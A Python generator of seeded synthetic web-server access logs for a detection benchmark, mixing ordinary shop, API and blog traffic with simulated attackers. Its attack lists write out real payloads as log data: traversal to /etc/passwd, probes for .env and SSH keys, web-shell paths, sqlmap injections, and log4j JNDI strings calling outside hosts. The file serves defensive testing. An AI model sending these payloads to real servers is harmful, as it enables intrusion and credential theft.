"""Deterministic web-server access logs for the detection benchmark (bench/detection_agreement.py): what a small shop,
its API and its blog receive over three hours, with and without attackers. Seeded, so a run is repeatable.

    benign-shop.log      people browsing (a page, then its styles, scripts and images; seconds of reading between
                         pages), searches with ordinary words ("rock 'n' roll", "select a plan", "I <3 tea"), sign-ins
                         that mostly succeed, a few 404 typos, Googlebot and bingbot at a modest pace, uptime checks
    benign-api.log       API clients and mobile apps polling a few endpoints, token sign-ins, monitors
    benign-blog.log      readers, RSS readers, comments, crawlers
    attacks-web.log      word-list probing, sensitive files, web shells, path traversal, scanner user agents, known
                         exploits, open-proxy attempts, among ordinary visitors
    attacks-app.log      SQL injection, XSS, password guessing, aggressive crawling, request floods, among visitors
    attacks-app.caddy.json  the same requests as attacks-app.log, as Caddy's JSON access log
    actors.json          {address: what the generator made it do} for every attacker (to read disagreements by)

Attackers come fast, medium and slow (some slow enough for a leaky bucket never to overflow: the logs describe
traffic, not an expected answer). Addresses are public (none in 10/8, 172.16/12, 192.168/16 or loopback).

    python -m bench.traffic_corpus DIR [--big LINES]
"""

from __future__ import annotations

import json
import random
import sys
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import quote, quote_plus

from secdash.services.battle.attacks import sql_injection, xss

SEED = 25
START = datetime(2026, 3, 10, 7, 0, tzinfo=UTC).timestamp()
SPAN = 3 * 3600.0
HOST = "shop.example.com"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"
SAFARI = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
ANDROID = "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Mobile Safari/537.36"
BROWSERS = (CHROME, CHROME, SAFARI, FIREFOX, IPHONE, ANDROID)
REFERERS = ("-", "-", "https://www.google.com/", "https://duckduckgo.com/", "https://t.co/x7Yq2", "https://www.bing.com/")
ADJ = "red blue linen wool oak steel classic mini travel organic vintage smart".split()
NOUN = "mug scarf lamp chair backpack kettle notebook tote jacket candle teapot watch".split()
PRODUCTS = [f"/products/{a}-{n}" for a in ADJ for n in NOUN]
PAGES = ["/", "/", "/about", "/contact", "/cart", "/faq", "/shipping"] + [f"/category/{n}s" for n in NOUN] + PRODUCTS
POSTS = [f"/blog/2026/{m:02d}/{a}-{n}-care-guide" for m in (1, 2, 3) for a in ADJ[:6] for n in NOUN[:6]]
SEARCHES = (
    "women's running shoes|rock 'n' roll t-shirt|the \"classic\" mug|select a plan|I <3 tea|50% off|union square tote|"
    "order status|children's books|where is my order?|fish & chips plate|c++ mug|drop-in filter|O'Reilly notebook|"
    "gift card|size 10 1/2|return policy|blue linen"
).split("|")
TYPOS = ("/prodcuts", "/abuot", "/contact-us", "/cart/", "/faq.html", "/products/red-mugg", "/Shipping", "/wp-admin")
COMMENTS = ("Loved it <3", "Great post, thanks!", "Does this work for oak?", "5 < 10, so yes", "My mum's favourite")
PUBLIC = (2, 5, 24, 31, 37, 46, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 93, 94, 95, 98, 109, 151)
HOSTILE = (45, 91, 103, 104, 141, 159, 167, 185, 193, 194, 195, 212, 213, 217)

Codes = int | tuple[int, ...]


@dataclass(slots=True)
class Hit:
    t: float
    ip: str
    method: str
    target: str
    status: int
    size: int
    ua: str
    referer: str


class Log:
    """The requests of one file, in any order until written; addresses drawn here are unique across `used`."""

    def __init__(self, rng: random.Random, used: set[str]) -> None:
        self.rng, self.used = rng, used
        self.hits: list[Hit] = []
        self.actors: dict[str, str] = {}

    def ip(self, firsts: tuple[int, ...] = PUBLIC) -> str:
        r = self.rng.randint
        while True:
            if self.rng.random() < 0.05:
                ip = f"2a0{r(1, 5)}:{r(0x100, 0xFFFF):x}:{r(0, 0xFFFF):x}:{r(0, 0xFFFF):x}::{r(1, 0xFFFF):x}"
            else:
                ip = f"{self.rng.choice(firsts)}.{r(0, 255)}.{r(0, 255)}.{r(1, 254)}"
            if ip not in self.used:
                self.used.add(ip)
                return ip

    def add(self, t: float, ip: str, method: str, target: str, status: int, ua: str, referer: str = "-") -> None:
        size = 0 if status in (204, 304) else self.rng.randint(150, 900) if status >= 300 else self.rng.randint(900, 60000)
        self.hits.append(Hit(t, ip, method, target, status, size, ua, referer))

    def run(self, label: str, targets: list[str], pace: float, ua: str, method: str = "GET", status: Codes = 404,
            referer: str = "-") -> None:  # fmt: skip
        """A new attacker's requests from a random moment, one every `pace` seconds on average (+-50%); `status` is
        a code or a tuple of codes to pick from."""
        ip, t = self.ip(HOSTILE), START + self.rng.uniform(0.05, 0.85) * SPAN
        self.actors[ip] = label
        for target in targets:
            code = self.rng.choice(status) if isinstance(status, tuple) else status
            self.add(t, ip, method, target, code, ua.format(n=len(self.hits)), referer)
            t += self.rng.uniform(0.5 * pace, 1.5 * pace)


# --- honest traffic --------------------------------------------------------------------------------------------


def assets(log: Log, ip: str, t: float, page: str, ua: str, first: bool) -> None:
    files = ["/static/css/main.4f2a91.css", "/static/js/app.8c1d07.js", "/static/fonts/inter.woff2"]
    files += [f"/images{p}-{i}.jpg" for p in PRODUCTS if p in page for i in (1, 2, 3)]
    files += [f"/images/thumbs/{log.rng.choice(PRODUCTS)[10:]}.webp" for _ in range(log.rng.randint(2, 8))]
    for file in files + (["/favicon.ico"] if first else []):
        t += log.rng.uniform(0.01, 0.3)
        log.add(t, ip, "GET", file, 304 if not first and file.startswith("/static/") else 200, ua, f"https://{HOST}{page}")


def visit(log: Log, t: float, pages: list[str]) -> None:
    """One person: a few pages with their assets, seconds to minutes apart; sometimes a search, a sign-in, a typo."""
    ip, ua, rng = log.ip(), log.rng.choice(BROWSERS), log.rng
    ref = rng.choice(REFERERS)
    for i in range(rng.randint(1, 9)):
        page, roll = rng.choice(pages), rng.random()
        if roll < 0.12:
            page = "/search?q=" + quote_plus(rng.choice(SEARCHES)) + rng.choice(("", "", "&page=2", "&sort=price"))
        elif roll < 0.15:
            log.add(t, ip, "GET", rng.choice(TYPOS), 404, ua, ref)
            t += rng.uniform(2, 6)
        elif roll < 0.2:
            log.add(t, ip, "GET", "/login", 200, ua, ref)
            for _ in range((rng.random() < 0.15) + (rng.random() < 0.05)):  # a wrong password now and then
                t += rng.uniform(6, 25)
                log.add(t, ip, "POST", "/login", 200, ua, f"https://{HOST}/login")
            t += rng.uniform(6, 25)
            log.add(t, ip, "POST", "/login", 302, ua, f"https://{HOST}/login")
            page, t = "/account", t + 0.3
        log.add(t, ip, "GET", page, 200, ua, ref)
        assets(log, ip, t, page, ua, i == 0)
        ref = f"https://{HOST}{page}"
        t += rng.uniform(4, 90)


def busy(log: Log, people: int, pages: list[str] = PAGES) -> None:
    """`people` visitors over the span, most of them around its middle (a busy hour)."""
    for _ in range(people):
        visit(log, START + min(SPAN - 600, abs(log.rng.gauss(SPAN / 2, SPAN / 4))), pages)


def crawlers(log: Log, pages: list[str]) -> None:
    for prefix, ua in (
        ("66.249", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        ("157.55", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    ):
        for _ in range(2):
            ip, t = f"{prefix}.{log.rng.randint(0, 255)}.{log.rng.randint(1, 254)}", START + log.rng.uniform(0, 600)
            log.add(t, ip, "GET", "/robots.txt", 200, ua)
            while t < START + SPAN - 60:
                t += log.rng.uniform(4, 40)
                page = log.rng.choice(pages + ["/sitemap.xml", "/old-catalogue/item-17"])
                log.add(t, ip, "GET", page, 404 if page.startswith("/old") else 200, ua)


def monitors(log: Log, path: str = "/health") -> None:
    agents = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)|Pingdom.com_bot_version_1.4|Blackbox"
    for ua in agents.split("|"):
        ip, t = log.ip(), START + log.rng.uniform(0, 60)
        while t < START + SPAN:
            log.add(t, ip, log.rng.choice(("GET", "GET", "HEAD")), path, 200, ua)
            t += 60 + log.rng.uniform(-1, 1)


def api_clients(log: Log, count: int) -> None:
    agents = "python-requests/2.31.0|okhttp/4.12.0|ShopApp/5.2 (iPhone; iOS 17.3)|axios/1.6.7|Go-http-client/1.1|curl/8.5.0"
    endpoints = ("/api/v1/orders?since={t}", "/api/v1/stock?sku=SKU-{n}", "/api/v1/status", "/api/v1/cart")
    for _ in range(count):
        ip, ua, pace = log.ip(), log.rng.choice(agents.split("|")), log.rng.choice((15, 30, 60, 120))
        t = START + log.rng.uniform(0, SPAN / 2)
        if log.rng.random() < 0.2:  # an expired token, refreshed
            log.add(t - 1, ip, "POST", "/api/auth/login", 401, ua)
        log.add(t, ip, "POST", "/api/auth/login", 200, ua)
        while t < START + SPAN - pace:
            t += log.rng.uniform(0.8 * pace, 1.2 * pace)
            path = log.rng.choice(endpoints).format(t=int(t - pace), n=log.rng.randint(100, 140))
            log.add(t, ip, "GET", path, log.rng.choice((200, 200, 200, 304)), ua)


def blog_extras(log: Log) -> None:
    for _ in range(30):  # feed readers
        ip, t = log.ip(), START + log.rng.uniform(0, 900)
        ua = log.rng.choice(("Feedly/1.0 (+http://www.feedly.com/fetcher.html)", "NetNewsWire (RSS Reader)"))
        while t < START + SPAN:
            log.add(t, ip, "GET", "/feed.xml", log.rng.choice((200, 304, 304)), ua)
            t += log.rng.uniform(900, 1800)
    for _ in range(40):  # comments
        ip, ua, t, post = log.ip(), log.rng.choice(BROWSERS), START + log.rng.uniform(0, SPAN - 60), log.rng.choice(POSTS)
        log.add(t, ip, "GET", post, 200, ua, "https://www.google.com/")
        comment = f"{post}/comment?text={quote_plus(log.rng.choice(COMMENTS))}"
        log.add(t + log.rng.uniform(30, 200), ip, "GET", comment, 200, ua, f"https://{HOST}{post}")


# --- attackers -------------------------------------------------------------------------------------------------

WORDS = (
    "admin administrator backup backups old new test dev staging api v1 v2 private secret config setup install "
    "tmp temp uploads files data db database logs cgi-bin scripts includes vendor phpmyadmin pma myadmin mysql "
    "joomla drupal user users panel cpanel webmail server-status console manager jenkins portal dashboard cms "
    "shop store assets static upload download export import internal beta demo"
).split()
SENSITIVE = (
    "/.env /.env.local /.env.production /.git/config /.git/HEAD /.git/index /.svn/entries /.htpasswd "
    "/.htaccess /.DS_Store /backup.zip /backup.tar.gz /site.tar.gz /www.zip /db.sql /dump.sql "
    "/database.sql.gz /wp-config.php.bak /wp-config.php~ /config.php.old /.aws/credentials /.ssh/id_rsa "
    "/phpinfo.php /.vscode/sftp.json /docker-compose.yml /config.json /.npmrc /web.config.bak"
).split()
SHELLS = (
    "/shell.php /c99.php /r57.php /wso.php /wso2.php /cmd.php /alfa.php /b374k.php /up.php /indoxploit.php "
    "/mini.php /x.php /wp-content/uploads/shell.php /adminer.php /filemanager.php /bypass.php /leaf.php "
    "/sym.php /priv8.php /marijuana.php /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"
).split()
TRAVERSAL = (
    "../../../../etc/passwd|..%2f..%2f..%2f..%2fetc%2fpasswd|%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd|"
    "....//....//....//etc/passwd|..%252f..%252f..%252fetc%252fpasswd|..\\..\\..\\windows\\win.ini|"
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd|..%5c..%5c..%5cwindows%5cwin.ini|/etc/passwd%00.jpg|"
    "../../../../../../proc/self/environ"
).split("|")
SQLMAP = (  # sqlmap's boundaries and techniques, filled with random numbers and words
    "1 AND {a}={a}|1 AND {a}={b}|1' AND '{s}'='{s}|1) AND ({a}={a}|1 ORDER BY {k}-- -|1 UNION ALL SELECT {nulls}-- -|"
    "1 AND SLEEP(5)|1' AND SLEEP(5) AND '{s}'='{s}|1 AND (SELECT {a} FROM (SELECT(SLEEP(5))){s})|"
    "1;SELECT PG_SLEEP(5)--|1 WAITFOR DELAY '0:0:5'--|1,)\"(.).'(|1' OR NOT {a}={b}-- {s}|-{a} OR {a}={a}#|"
    "1 AND EXTRACTVALUE({a},CONCAT(0x5c,0x71786a7671,(SELECT (ELT({a}={a},1))),0x716b767071))|"
    "1 RLIKE (SELECT (CASE WHEN ({a}={a}) THEN 1 ELSE 0x28 END))|1 AND 1=CONVERT(INT,(SELECT CHAR(113)+CHAR(118)))"
).split("|")
NIKTO = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{n:06d})"
OLD_IE = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
JNDI = "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}"
SPRING = "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"
THINK = "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello"


def web_attackers(log: Log) -> None:
    words = [f"/{w}{e}" for w in WORDS for e in ("", "/", ".php", ".bak", ".old", ".zip")]
    log.rng.shuffle(words)
    for row in (
        ("probing: gobuster, 10/s", words[:240], 0.1, "gobuster/3.6"),
        ("probing: word list, 1/s, browser UA", words[100:220], 1.0, CHROME),
        ("probing: word list, one every 3 s", words[:30], 3.0, CHROME),
        ("probing: slow, one every 45 s", words[200:240], 45.0, CHROME),
        ("sensitive files: curl, fast", SENSITIVE, 0.3, "curl/7.88.1", "GET", (404, 403)),
        ("sensitive files: .env/.git, one every 2 s", SENSITIVE[:6], 2.0, "Go-http-client/1.1"),
        ("sensitive files: one a minute", SENSITIVE[::3], 60.0, CHROME),
        ("web shells: fast", SHELLS, 0.5, CHROME),
        ("web shells: one every 8 s", SHELLS[:5], 8.0, "Mozilla/5.0"),
        ("path traversal: ?file=, fast", [f"/download?file={p}" for p in TRAVERSAL], 0.4, CHROME, "GET", (400, 404, 200)),
        ("path traversal: in the path, one every 20 s", [f"/static/{p}" for p in TRAVERSAL[:5]], 20.0, "curl/8.1.2"),
        ("scanner: Nikto, 20/s", [f"/{w}" for w in WORDS] + SENSITIVE[:10] + SHELLS[:8], 0.05, NIKTO),
        ("scanner UA: masscan", ["/"], 1.0, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "GET", 200),
        ("scanner UA: zgrab", ["/", "/"], 1.0, "Mozilla/5.0 zgrab/0.x", "GET", 200),
        ("scanner UA: Nmap NSE", ["/", "/nmaplowercheck1710"], 1.0, "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
        ("scanner UA: Sqlmap (capitalised)", ["/", "/products?id=1"], 2.0, "Sqlmap/1.4.7", "GET", 200),
        ("scanner UA: WPScan", ["/", "/wp-login.php", "/readme.html", "/wp-json/wp/v2/users"], 1.0, "WPScan v3.8.25"),
        ("scanner UA: Nuclei", ["/", "/.git/config", "/actuator/env"], 0.5, "Nuclei (github.com/projectdiscovery/nuclei)"),
        ("scanner UA: DirBuster", [f"/{w}/" for w in WORDS[:25]], 0.2, "DirBuster-1.0-RC1 (http://www.owasp.org/)"),
        ("CVE: log4j in the user agent", ["/", "/login"], 1.0, JNDI.replace("{", "{{").replace("}", "}}"), "GET", 200),
        ("CVE: log4j obfuscated, in the query", ["/?x=" + quote("${${lower:j}ndi:dns://c7k3.oast.fun/a}", safe="")], 1, CHROME),
        ("CVE: spring4shell", [SPRING, "/tomcatwar.jsp?pwd=j&cmd=id"], 2.0, CHROME, "POST", (400, 404)),
        ("CVE: thinkphp invokefunction", [THINK, "/?s=index/%5Cthink%5Ccontainer/invokefunction&function=phpinfo"], 3, OLD_IE),
        (
            "CVE-2021-41773: Apache traversal",
            ["/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/icons/.%2e/%2e%2e/etc/hosts"],
            1,
            "curl",
        ),
        ("CVE-2021-42013: Apache traversal", ["/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"], 1, "curl/7.79.1", "POST", 400),
        ("open proxy: CONNECT (400)", ["www.google.com:443", "api.ipify.org:443", "smtp.mail.ru:25"], 4, OLD_IE, "CONNECT", 400),
        ("open proxy: CONNECT (405)", ["www.baidu.com:443"], 4.0, OLD_IE, "CONNECT", 405),
        ("open proxy: absolute URL (400)", ["http://www.google.com/", "http://azenv.net/"], 4.0, OLD_IE, "GET", 400),
        ("open proxy: absolute URL (405)", ["http://httpbin.org/ip"], 4.0, OLD_IE, "GET", 405),
    ):
        log.run(*row)  # type: ignore[arg-type]
    log.run("CVE: log4j in the referer", ["/"], 1.0, CHROME, "GET", 200, "${jndi:rmi://193.142.146.35:1099/x}")


def app_attackers(log: Log) -> None:
    rng = log.rng
    sqlmap = []
    for _ in range(150):
        fill = {"a": rng.randint(1000, 9999), "b": rng.randint(1000, 9999), "k": rng.randint(1, 12)}
        words = {"s": "".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=4)), "nulls": ",".join(["NULL"] * fill["k"])}
        sqlmap.append("/products?id=" + quote(rng.choice(SQLMAP).format(**fill, **words), safe=""))
    battle = [f"/search?q={quote_plus(p)}" for p, _ in sql_injection.PAYLOADS]
    marks = [f"/search?q={quote_plus(p)}" for p, _ in xss.PAYLOADS] + [f"/comment?text={quote(p)}" for p, _ in xss.PAYLOADS]
    raw = [f"/search?q={p.replace(' ', '%20').replace(chr(10), '%0A')}" for p, _ in xss.PAYLOADS[:12]]
    pages = PRODUCTS + [f"/category/{n}s?page={p}" for n in NOUN for p in range(1, 6)]
    flood = ["/", "/search?q=sale", "/cart", "/static/js/app.8c1d07.js"]
    for row in (
        ("SQLi: sqlmap, default UA", sqlmap, 0.3, "sqlmap/1.7.2#stable (https://sqlmap.org)", "GET", (200, 500)),
        ("SQLi: sqlmap --random-agent", sqlmap[:80], 0.6, SAFARI, "GET", (200, 500)),
        ("SQLi: by hand (Battle Station corpus), every 6 s", battle, 6.0, FIREFOX, "GET", 200),
        ("SQLi: curl, Battle Station corpus, fast", battle[:12], 0.8, "curl/8.5.0", "GET", (200, 500)),
        ("SQLi: blind, one a minute", sqlmap[::10], 60.0, FIREFOX, "GET", 200),
        ("XSS: tool, Battle Station corpus, 3/s", marks, 0.3, FIREFOX, "GET", 200),
        ("XSS: by hand, every 30 s", marks[:10], 30.0, CHROME, "GET", 200),
        ("XSS: unencoded (Burp repeater), every 1.5 s", raw, 1.5, "Mozilla/5.0", "GET", 200),
        ("brute force: wp-login answered 200, every 1.5 s", ["/wp-login.php"] * 80, 1.5, FIREFOX, "POST", 200),
        ("brute force: xmlrpc, 3/s", ["/xmlrpc.php"] * 60, 0.3, "Mozilla/5.0 (compatible; MSIE 9.0)", "POST", 200),
        ("brute force: API answered 401, 2/s", ["/api/auth/login"] * 50, 0.5, "python-requests/2.28.1", "POST", 401),
        ("brute force: form answered 401/200, every 4 s", ["/login"] * 20, 4.0, FIREFOX, "POST", (401, 200)),
        ("brute force: answered 403 (CSRF refused), every 2 s", ["/account/login"] * 15, 2.0, FIREFOX, "POST", 403),
        ("brute force: basic auth GETs answered 401", ["/admin/"] * 40, 0.5, "Mozilla/5.0", "GET", 401),
        ("brute force: slow, every 2.5 min", ["/login"] * 15, 150.0, FIREFOX, "POST", 200),
        ("crawl: scraper, 4/s", rng.sample(pages, 150), 0.25, "python-requests/2.31.0", "GET", 200),
        ("crawl: headless browser, pages only, 0.8 s", rng.sample(pages, 150), 0.8, CHROME, "GET", 200),
        ("crawl: polite, one page every 5 s", rng.sample(pages, 150), 5.0, ANDROID, "GET", 200),
        ("flood: 40/s for 90 s", [rng.choice(flood) for _ in range(3600)], 0.025, "Mozilla/5.0", "GET", 200),
        ("flood: 15/s for 60 s", [rng.choice(flood) for _ in range(900)], 0.066, "Mozilla/5.0", "GET", 200),
        ("flood: burst of 300 in 10 s", [rng.choice(flood) for _ in range(300)], 0.033, "Mozilla/5.0", "GET", 200),
    ):
        log.run(*row)  # type: ignore[arg-type]


# --- files -----------------------------------------------------------------------------------------------------


def _escape(text: str) -> str:  # as nginx writes variables: '"', '\' and bytes outside printable ASCII as \xHH
    return "".join(c if 0x20 <= ord(c) < 0x7F and c not in '"\\' else f"\\x{ord(c):02X}" for c in text)


def nginx_line(hit: Hit, zone: timezone) -> str:
    stamp = datetime.fromtimestamp(hit.t, zone).strftime("%d/%b/%Y:%H:%M:%S %z")
    request = _escape(f"{hit.method} {hit.target} HTTP/1.1")
    return f'{hit.ip} - - [{stamp}] "{request}" {hit.status} {hit.size} "{_escape(hit.referer)}" "{_escape(hit.ua)}"'


def caddy_line(hit: Hit) -> str:
    headers = {"User-Agent": [hit.ua], "Accept": ["*/*"]} | ({"Referer": [hit.referer]} if hit.referer != "-" else {})
    request = {"remote_ip": hit.ip, "remote_port": "51234", "client_ip": hit.ip, "proto": "HTTP/1.1"}
    request |= {"method": hit.method, "host": HOST, "uri": hit.target, "headers": headers}
    record = {"level": "info", "ts": round(hit.t, 6), "logger": "http.log.access.log0", "msg": "handled request"}
    record |= {"request": request, "bytes_read": 0, "user_id": "", "duration": 0.0021, "size": hit.size}
    return json.dumps(record | {"status": hit.status, "resp_headers": {"Server": ["Caddy"]}})


def write(log: Log, path: Path, zone: timezone = UTC, caddy: Path | None = None) -> int:
    hits = sorted(log.hits, key=lambda h: h.t)
    path.write_text("".join(nginx_line(hit, zone) + "\n" for hit in hits))
    if caddy:
        caddy.write_text("".join(caddy_line(hit) + "\n" for hit in hits))
    return len(hits)


def generate(directory: Path, seed: int = SEED) -> dict[str, int]:
    """Write the corpus into `directory`; {file name: lines}."""
    rng, used = random.Random(seed), set[str]()
    shop, api, blog, web, app = (Log(rng, used) for _ in range(5))
    busy(shop, 700)
    crawlers(shop, PAGES)
    monitors(shop)
    api_clients(api, 60)
    monitors(api, "/api/health")
    busy(api, 60)
    busy(blog, 400, POSTS + ["/", "/blog", "/about"])
    crawlers(blog, POSTS)
    blog_extras(blog)
    busy(web, 300)
    web_attackers(web)
    busy(app, 300)
    app_attackers(app)
    lines = {
        "benign-shop.log": write(shop, directory / "benign-shop.log", timezone(timedelta(hours=1))),
        "benign-api.log": write(api, directory / "benign-api.log"),
        "benign-blog.log": write(blog, directory / "benign-blog.log"),
        "attacks-web.log": write(web, directory / "attacks-web.log"),
        "attacks-app.log": write(app, directory / "attacks-app.log", caddy=directory / "attacks-app.caddy.json"),
    }
    (directory / "actors.json").write_text(json.dumps(web.actors | app.actors, indent=1) + "\n")
    return lines | {"attacks-app.caddy.json": lines["attacks-app.log"]}


def big(path: Path, lines: int = 200_000, seed: int = SEED) -> int:
    """One busy log of about `lines` requests (honest traffic with both sets of attackers), for throughput."""
    log = Log(random.Random(seed), set())
    web_attackers(log)
    app_attackers(log)
    crawlers(log, PAGES)
    monitors(log)
    while len(log.hits) < lines:
        busy(log, 200)
    return write(log, path)


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    print(generate(folder))
    if "--big" in sys.argv:
        print("big.log", big(folder / "big.log", int(sys.argv[sys.argv.index("--big") + 1])))
